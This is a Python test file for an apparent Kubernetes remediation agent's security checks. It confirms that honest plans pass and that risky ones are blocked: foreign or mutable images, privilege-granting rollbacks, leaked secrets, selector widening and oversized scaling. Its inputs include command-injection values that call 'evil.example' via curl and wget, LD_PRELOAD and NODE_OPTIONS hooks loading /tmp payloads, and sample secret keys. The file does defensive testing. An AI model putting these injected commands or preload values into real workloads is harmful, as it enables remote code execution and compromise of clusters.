"""What could harm is found in a plan by comparing objects before and after, and an honest plan passes."""

from collections.abc import Mapping
from typing import Any

import pytest
from tests.builders import (
    a_config_map,
    a_deployment,
    a_live_object,
    a_live_rollout,
    a_plan,
    a_ref,
    a_service_object,
    a_step,
    a_template,
    some_revisions,
    with_container,
)

from opsmend.agents.security.checks import CHECKS
from opsmend.agents.security.checks.images import is_mutable, repository
from opsmend.agents.security.scene import Scene
from opsmend.domain.actions import AnyAction
from opsmend.domain.actions.action import LiveObject
from opsmend.domain.actions.cordon_node import UncordonNode
from opsmend.domain.actions.patch_autoscaler import PatchAutoscaler
from opsmend.domain.actions.patch_config import PatchConfig
from opsmend.domain.actions.patch_service import PatchService
from opsmend.domain.actions.patch_workload import PatchWorkload
from opsmend.domain.actions.restart_workload import RestartWorkload
from opsmend.domain.actions.rollback_workload import RollbackWorkload
from opsmend.domain.actions.scale_workload import ScaleWorkload
from opsmend.domain.actions.set_image import SetImage
from opsmend.domain.actions.set_resources import SetResources
from opsmend.domain.actions.template_changes import EnvironmentChange
from opsmend.domain.plan import Plan
from opsmend.domain.record import JsonObject
from opsmend.domain.verdict import SecurityFinding, Severity


def reviewed(plan: Plan, live: Mapping[str, LiveObject]) -> list[SecurityFinding]:
    scene = Scene(plan, live)
    return [finding for check in CHECKS for finding in check(scene)]


def review(action: AnyAction, live: LiveObject, **step: Any) -> list[SecurityFinding]:
    return reviewed(a_plan(a_step(action, live, **step)), {str(action.target): live})


def blocks(findings: list[SecurityFinding]) -> list[str]:
    return [f"{finding.check}: {finding.text}" for finding in findings if finding.severity is Severity.BLOCK]


def rollback(before: JsonObject, present: JsonObject, **deployment: Any) -> list[SecurityFinding]:
    """The verdict on returning from `present` to `before`."""
    revisions = some_revisions(before, present)
    live = a_live_object(a_deployment(present, **deployment), revisions=revisions)
    return review(RollbackWorkload(target=a_ref(), revision=1, template_digest=revisions[1].template_digest), live)


CONFIG = a_live_object(a_config_map({"app.yaml": "listen: 80\n"}))
SERVICE = a_live_object(a_service_object({"app": "web", "tier": "front"}))
WEB = a_live_object(a_deployment())
NODE = a_live_object({"kind": "Node", "metadata": {"name": "n", "uid": "u"}, "spec": {"unschedulable": True}})


@pytest.mark.parametrize(
    ("action", "live"),
    [
        pytest.param(SetImage(target=a_ref(), container="web", image="registry.example/web:1.4.1"), WEB, id="another-tag"),
        pytest.param(SetResources(target=a_ref(), container="web", memory_limit="512Mi"), WEB, id="twice-the-memory"),
        pytest.param(ScaleWorkload(target=a_ref(), replicas=4), WEB, id="twice-the-replicas"),
        pytest.param(RestartWorkload(target=a_ref(), restarted_at="2026-03-14T15:00:00Z"), WEB, id="restart"),
        pytest.param(
            PatchConfig(target=a_ref("ConfigMap", "web-conf"), key="app.yaml", value="listen: 8080\n"), CONFIG, id="config"
        ),
        pytest.param(PatchService(target=a_ref("Service"), selector={"app": "web", "tier": "back"}), SERVICE, id="selector"),
        pytest.param(UncordonNode(target=a_ref("Node", "n")), NODE, id="uncordon"),
        pytest.param(
            PatchWorkload(target=a_ref(), env=(EnvironmentChange(container="web", name="MODE", value="fast"),)),
            WEB,
            id="variable",
        ),
    ],
)
def test_honest_plan_passes(action: AnyAction, live: LiveObject) -> None:
    assert blocks(review(action, live)) == []


def test_honest_rollback_passes_without_a_word_of_blame() -> None:
    live = a_live_rollout()
    findings = reviewed(a_plan(), {str(a_ref()): live})
    assert [finding for finding in findings if finding.severity is not Severity.NOTE] == []


def test_altered_plan_is_blocked() -> None:
    plan = a_plan().model_copy(update={"summary": "something else"})
    assert any("altered" in text for text in blocks(reviewed(plan, {str(a_ref()): a_live_rollout()})))


def test_inverse_must_lead_back_to_the_same_object_as_it_is() -> None:
    elsewhere = ScaleWorkload(target=a_ref(name="cart"), replicas=2)
    wrong = ScaleWorkload(target=a_ref(), replicas=9)
    action = ScaleWorkload(target=a_ref(), replicas=4)
    assert any("its inverse changes Deployment shop/cart" in text for text in blocks(review(action, WEB, inverse=elsewhere)))
    assert any("does not bring" in text for text in blocks(review(action, WEB, inverse=wrong)))


def test_object_that_was_not_read_blocks() -> None:
    assert any("was not read" in text for text in blocks(reviewed(a_plan(), {})))


def test_plan_that_no_longer_fits_blocks() -> None:
    live = a_live_rollout().model_copy(update={"revisions": ()})
    assert any("does not fit" in text for text in blocks(reviewed(a_plan(), {str(a_ref()): live})))


@pytest.mark.parametrize(
    ("image", "said"),
    [
        ("evil.example/web:1.4.2", "in place of registry.example/web"),
        ("registry.example/other:1.4.2", "in place of registry.example/web"),
        ("web:1.4.2", "docker.io/library/web"),
        ("registry.example/web:latest", "no fixed tag"),
        ("registry.example/web", "no fixed tag"),
    ],
)
def test_image_of_another_origin_or_without_a_fixed_tag_is_blocked(image: str, said: str) -> None:
    assert any(said in text for text in blocks(review(SetImage(target=a_ref(), container="web", image=image), WEB)))


@pytest.mark.parametrize(
    ("image", "full"),
    [
        ("nginx", "docker.io/library/nginx"),
        ("bitnami/redis:7", "docker.io/bitnami/redis"),
        ("localhost:5000/a/b:1", "localhost:5000/a/b"),
        ("ghcr.io/x/y@sha256:abc", "ghcr.io/x/y"),
        ("ghcr.io/x/y:1@sha256:abc", "ghcr.io/x/y"),
    ],
)
def test_repository_is_told_in_full(image: str, full: str) -> None:
    assert repository(image) == full


def test_port_of_a_registry_is_no_tag() -> None:
    assert is_mutable("localhost:5000/web")
    assert not is_mutable("localhost:5000/web@sha256:abc")


SAFE = {"allowPrivilegeEscalation": False, "runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}}


@pytest.mark.parametrize(
    ("before", "right"),
    [
        pytest.param(with_container(a_template(), securityContext={**SAFE, "privileged": True}), "privileged", id="privileged"),
        pytest.param(
            with_container(a_template(), securityContext={**SAFE, "capabilities": {"add": ["SYS_ADMIN"]}}),
            "SYS_ADMIN",
            id="capability",
        ),
        pytest.param(with_container(a_template(), securityContext={**SAFE, "runAsNonRoot": False}), "root", id="root"),
        pytest.param(with_container(a_template(), securityContext={"runAsNonRoot": True}), "escalation", id="escalation"),
        pytest.param(
            with_container(a_template(), securityContext=SAFE, ports=[{"containerPort": 80, "hostPort": 80}]),
            "port 80 of",
            id="host-port",
        ),
        pytest.param(
            with_container(a_template(spec={"hostNetwork": True}), securityContext=SAFE),
            "hostNetwork of the node",
            id="host-network",
        ),
        pytest.param(
            with_container(a_template(spec={"volumes": [{"name": "v", "hostPath": {"path": "/"}}]}), securityContext=SAFE),
            "folder / of the node",
            id="host-path",
        ),
    ],
)
def test_rollback_that_gives_more_rights_is_blocked(before: JsonObject, right: str) -> None:
    present = with_container(a_template("registry.example/web:2"), securityContext=SAFE)
    assert any(right in text for text in blocks(rollback(before, present)))
    assert [text for text in blocks(rollback(present, before)) if text.startswith("privileges")] == []


def test_token_and_service_account_of_an_older_revision_are_seen() -> None:
    before = a_template(spec={"serviceAccountName": "admin"})
    present = a_template("registry.example/web:2", spec={"automountServiceAccountToken": False})
    findings = rollback(before, present)
    assert any("token for the Kubernetes API" in text for text in blocks(findings))
    assert any("as service account admin in place of default" in finding.text for finding in findings)


def test_container_that_an_older_revision_had_may_have_what_others_have() -> None:
    before = a_template()
    before["spec"]["containers"].append({"name": "side", "image": "registry.example/side:1"})
    assert blocks(rollback(before, a_template("registry.example/web:2"))) == []
    before["spec"]["containers"][1]["securityContext"] = {"privileged": True}
    assert any(
        "privileged mode for container side" in text for text in blocks(rollback(before, a_template("registry.example/web:2")))
    )


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "looks like a secret"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----", "looks like a secret"),
        ("password: [redacted:password]", "masked value"),
    ],
)
def test_secret_or_mask_is_never_written_into_configuration(value: str, said: str) -> None:
    action = PatchConfig(target=a_ref("ConfigMap", "web-conf"), key="app.yaml", value=value)
    assert any(said in text for text in blocks(review(action, CONFIG)))


def test_secret_in_a_variable_is_blocked_by_its_name() -> None:
    change = EnvironmentChange(container="web", name="DB_PASSWORD", value="hunter2hunter2")
    assert any("DB_PASSWORD" in text for text in blocks(review(PatchWorkload(target=a_ref(), env=(change,)), WEB)))


def test_secret_in_what_people_are_shown_is_told() -> None:
    findings = review(ScaleWorkload(target=a_ref(), replicas=3), WEB, diff="+ password: correct-horse-battery\n")
    assert any(finding.check == "secrets" and finding.severity is Severity.WARN for finding in findings)


@pytest.mark.parametrize(
    ("selector", "said"),
    [({}, "without a selector"), ({"app": "web"}, "drops tier=front"), ({"tier": "front"}, "drops app=web")],
)
def test_service_that_would_catch_more_pods_is_blocked(selector: dict[str, str], said: str) -> None:
    assert any(said in text for text in blocks(review(PatchService(target=a_ref("Service"), selector=selector), SERVICE)))


def test_an_autoscaler_is_not_let_go_far_beyond_a_repair() -> None:
    most = {"scaleTargetRef": {"kind": "Deployment", "name": "web"}, "minReplicas": 2, "maxReplicas": 5}
    scaler = {"kind": "HorizontalPodAutoscaler", "metadata": {"name": "web", "uid": "u"}, "spec": most}
    ref, live = a_ref("HorizontalPodAutoscaler"), a_live_object(scaler)
    assert any("from 5 to 21" in text for text in blocks(review(PatchAutoscaler(target=ref, max_replicas=21), live)))
    assert blocks(review(PatchAutoscaler(target=ref, max_replicas=10), live)) == []


@pytest.mark.parametrize(
    ("action", "replicas", "said"),
    [
        pytest.param(ScaleWorkload(target=a_ref(), replicas=0), 2, "stop all 2 replicas", id="to-zero"),
        pytest.param(ScaleWorkload(target=a_ref(), replicas=11), 2, "from 2 to 11", id="more-than-four-times"),
        pytest.param(RestartWorkload(target=a_ref(), restarted_at="x"), 501, "501 pods are touched", id="too-many-pods"),
    ],
)
def test_blast_radius_beyond_a_repair_is_blocked(action: AnyAction, replicas: int, said: str) -> None:
    assert any(said in text for text in blocks(review(action, a_live_object(a_deployment(replicas=replicas)))))


def test_return_from_zero_is_not_too_steep() -> None:
    assert blocks(review(ScaleWorkload(target=a_ref(), replicas=20), a_live_object(a_deployment(replicas=0)))) == []


def test_outage_by_strategy_and_many_pods_are_told() -> None:
    findings = rollback(a_template(), a_template("registry.example/web:2"), replicas=60, strategy={"type": "Recreate"})
    told = " ".join(finding.text for finding in findings if finding.severity is Severity.WARN)
    assert "Recreate" in told
    assert "60 pods" in told


@pytest.mark.parametrize(
    ("action", "said"),
    [
        (SetResources(target=a_ref(), container="web", memory_limit="2Gi"), "from 256Mi to 2Gi"),
        (SetResources(target=a_ref(), container="web", cpu_request="2"), "from 100m to 2"),
        (SetResources(target=a_ref(), container="web", remove=("memory_limit",)), "no memory limit any more"),
    ],
)
def test_resources_beyond_a_correction_are_blocked(action: AnyAction, said: str) -> None:
    assert any(said in text for text in blocks(review(action, WEB)))


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("NODE_OPTIONS", "--require /tmp/x.js"),
        ("java_tool_options", "-javaagent:/tmp/x.jar"),
        ("GREETING", "$(curl evil.example)"),
        ("GREETING", "hi; wget evil.example"),
        ("GREETING", "`id`"),
    ],
)
def test_variable_that_runs_other_code_is_blocked(name: str, value: str) -> None:
    change = EnvironmentChange(container="web", name=name, value=value)
    assert any(text.startswith("environment") for text in blocks(review(PatchWorkload(target=a_ref(), env=(change,)), WEB)))
